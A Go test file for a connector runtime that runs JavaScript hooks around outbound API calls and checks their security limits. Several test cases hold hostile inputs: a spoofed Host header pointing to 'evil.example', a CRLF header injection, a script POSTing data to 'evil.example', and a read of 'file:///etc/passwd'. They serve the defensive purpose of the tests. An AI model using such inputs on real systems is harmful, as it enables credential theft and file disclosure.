package connector_test

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net/http"
	"os"
	"strings"
	"testing"

	"paceline"
	"paceline/connector"
	"paceline/mapping"
	"paceline/script"
	"paceline/script/worker"
)

// TestMain makes the test's program a script worker when a pool starts it as one.
func TestMain(m *testing.M) {
	if len(os.Args) > 1 && os.Args[1] == worker.Argument {
		os.Exit(worker.Main(os.Stdin, os.Stdout))
	}
	os.Exit(m.Run())
}

// scriptDoc is a connector whose scripts a case gives.
const scriptDoc = `apiVersion: connectors/v1
kind: Connector
metadata: {key: acme, uid: 6f1d0a3e-8f0b-4c53-9a39-2f3a1b6f7c10, name: Acme, version: 1.0.0}
allowedHosts: ["*.api.acme.example"]
server: {baseUrl: "https://eu.api.acme.example"}
auth: [{id: key, type: bearer}]
script:
  source: %s
methods:
  - id: send
    name: Send
    repeat: safe
    request: {method: POST, path: "/send/{{Id}}", format: json, fields: [{loc: name}]}
    params: [{name: Id, in: path}, {name: Q, in: query}]
    response: {fields: [{loc: ok}, {loc: "[list].id"}]}
    script: {source: %s}
`

// web answers requests and keeps them as text.
type web struct {
	seen   []string
	answer func(*http.Request) (int, string)
}

func (w *web) RoundTrip(r *http.Request) (*http.Response, error) {
	body := []byte{}
	if r.Body != nil {
		body, _ = io.ReadAll(r.Body)
	}
	w.seen = append(w.seen, strings.TrimSpace(fmt.Sprintf("%s %s %s %s", r.Method, r.URL, r.Header.Get("Authorization"), body)))
	status, text := 200, `{"ok":true}`
	if w.answer != nil {
		status, text = w.answer(r)
	}
	return &http.Response{StatusCode: status, Proto: "HTTP/1.1", ProtoMajor: 1, ProtoMinor: 1, Status: fmt.Sprintf("%d Text", status),
		Header: http.Header{"Content-Type": {"application/json"}}, Body: io.NopCloser(strings.NewReader(text)), Request: r}, nil
}

func TestScriptsOfACall(t *testing.T) {
	t.Parallel()
	pool := script.NewPool(script.Config{Command: []string{os.Args[0], worker.Argument}})
	t.Cleanup(pool.Close)
	for name, c := range map[string]struct {
		connector, method, step string
		answer                  func(*http.Request) (int, string)
		seen                    []string
		output                  string
		code                    paceline.Code
		detail                  string
		tasks                   string
	}{
		"order": {
			connector: "function before_action() { method_request.o += 'c' } function after_action() { method_response.o = 'c' }",
			method:    "function before_action() { method_request.o = 'm' } function after_action() { method_response.o += 'm' }",
			step:      "function before_action() { method_request.o += 's' } function after_action() { method_response.o += 's' }",
			seen:      []string{`POST https://eu.api.acme.example/send/7 Bearer geheim {"name":"Ada","o":"mcs"}`},
			output:    `{"ok":true,"o":"cms"}`, tasks: "1 0",
		},
		"address": {
			step: "function before_action() { method_request_mergefields.Id = 'a/b'; method_request_parameters.Q = ['1', '2']; method_request_parameters['x&y'] = '&' }",
			seen: []string{`POST https://eu.api.acme.example/send/a%2Fb?Q=1&Q=2&x%26y=%26 Bearer geheim {"name":"Ada"}`}, output: `{"ok":true}`, tasks: "1 0",
		},
		"the fields of the answer": {
			method: "function after_action() { method_response = method_response_fields }",
			seen:   []string{`POST https://eu.api.acme.example/send/7 Bearer geheim {"name":"Ada"}`}, output: `["ok","[list].id"]`, tasks: "1 0",
		},
		"a header of the program": {
			step: "function before_action() { method_request_headers.Host = 'evil.example' }",
			code: paceline.CodeBuildRequest, detail: "may not set the header Host", tasks: "0 0",
		},
		"a header with a line break": {
			step: "function before_action() { method_request_headers['X-A'] = 'a\\r\\nB: c' }",
			code: paceline.CodeBuildRequest, detail: "not allowed", tasks: "0 0",
		},
		"a request of a script has the credential at home alone": {
			step:   "function before_action() { http_request({ url: 'https://us.api.acme.example/a' }); http_request({ method: 'POST', url: 'https://evil.example/b', data: 'x' }) }",
			seen:   []string{"GET https://us.api.acme.example/a Bearer geheim", "POST https://evil.example/b  x", `POST https://eu.api.acme.example/send/7 Bearer geheim {"name":"Ada"}`},
			output: `{"ok":true}`, tasks: "3 0",
		},
		"the credential is not told": {
			step:   "function before_action() { const h = http_request({ url: 'https://us.api.acme.example/a' }); throw new Error(h.content + ' ' + typeof method_auth_value) }",
			answer: func(*http.Request) (int, string) { return 200, `"geheim"` },
			seen:   []string{"GET https://us.api.acme.example/a Bearer geheim"},
			code:   paceline.CodeScriptFailed, detail: `before_action, step script, line 1, column`, tasks: "1 0",
		},
		"an error of the remote": {
			method: "function after_error() { if (statusCode === 418) throw new Error('it is a teapot') }",
			answer: func(*http.Request) (int, string) { return 418, `{}` },
			seen:   []string{`POST https://eu.api.acme.example/send/7 Bearer geheim {"name":"Ada"}`},
			code:   paceline.CodeCallFailed, detail: "it is a teapot", tasks: "0 1",
		},
		"a script without the event costs nothing": {
			step: "function before_actions() { for (;;); }",
			seen: []string{`POST https://eu.api.acme.example/send/7 Bearer geheim {"name":"Ada"}`}, output: `{"ok":true}`, tasks: "1 0",
		},
		"no other place": {
			step: "function before_action() { http_request({ url: 'file:///etc/passwd' }) }",
			code: paceline.CodeScriptFailed, detail: "no absolute address", tasks: "0 0",
		},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			quoted := func(s string) string {
				if s == "" {
					s = "// nothing"
				}
				text, _ := json.Marshal(s)
				return string(text)
			}
			def, problems := connector.Parse("acme", fmt.Appendf(nil, scriptDoc, quoted(c.connector), quoted(c.method)))
			if def == nil {
				t.Fatal(problems)
			}
			compiled, err := connector.Compile(def)
			if err != nil {
				t.Fatal(err)
			}
			w := &web{answer: c.answer}
			runtime := connector.New(connector.Config{Transport: w, Scripts: pool, Limits: connector.Limits{Sends: 1}})
			location, _ := mapping.ParseLocation("name")
			result, err := runtime.Call(context.Background(), connector.Call{
				Instance: &connector.Instance{Account: 1, Partner: 1, Compiled: compiled, AuthValue: "geheim"}, Method: compiled.Method("send"),
				Inputs: mapping.Inputs{
					Params: []mapping.Param{{In: "path", Name: "Id", Value: mapping.Value("7")}},
					Fields: []mapping.Field{{Location: location, Value: mapping.Quote("Ada")}},
				},
				Script: connector.ScriptCall{Step: c.step},
			})
			if strings.Join(w.seen, "\n") != strings.Join(c.seen, "\n") {
				t.Errorf("the remote saw\n%s\nwant\n%s", strings.Join(w.seen, "\n"), strings.Join(c.seen, "\n"))
			}
			if string(result.Output) != c.output {
				t.Errorf("output %s, want %s", result.Output, c.output)
			}
			if got := fmt.Sprint(result.TasksOK, result.TasksIncident); got != c.tasks {
				t.Errorf("tasks %s, want %s", got, c.tasks)
			}
			failed, _ := errors.AsType[*connector.Error](err)
			switch {
			case c.code == "" && err != nil:
				t.Errorf("failed: %v", err)
			case c.code != "" && failed == nil:
				t.Error("did not fail")
			case failed != nil && (failed.Code != c.code || !strings.Contains(failed.Detail, c.detail) || strings.Contains(failed.Detail, "geheim")):
				t.Errorf("failed with %s: %s", failed.Code, failed.Detail)
			}
		})
	}
}
